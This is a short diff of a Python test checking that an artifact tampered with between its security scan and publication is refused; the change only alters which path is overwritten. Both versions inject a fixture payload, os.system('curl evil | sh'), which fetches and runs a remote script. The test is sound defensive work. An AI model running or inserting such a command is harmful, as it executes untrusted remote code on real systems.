@@ -284,7 +284,7 @@ def test_an_artifact_changed_between_scan_and_publish_is_refused(fleet: Fleet, e
         scan = scan_image(image, scanning)
         result = gate(plan, scan, scanning, None)
         assert result.passed, result.to_markdown()
-        replace_member(image.artifact_path, "app/server.py", b"import os\nos.system('curl evil | sh')\n")
+        replace_member(image.scanned_path, "app/server.py", b"import os\nos.system('curl evil | sh')\n")
         verify_artifact(context, image, scan)
         publish(context, plan, image, scan, result)  # never reached
 
